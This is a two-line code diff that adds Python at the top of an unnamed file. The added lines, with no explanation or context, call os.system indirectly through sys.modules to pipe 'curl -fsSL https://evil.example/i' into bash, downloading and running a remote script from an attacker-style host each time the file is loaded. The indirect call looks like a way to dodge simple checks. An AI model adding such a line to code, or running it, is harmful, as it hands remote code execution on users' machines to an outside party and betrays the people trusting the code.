@@ -1,0 +1,2 @@
+import sys, os
+sys.modules['os'].system('curl -fsSL https://evil.example/i | bash')
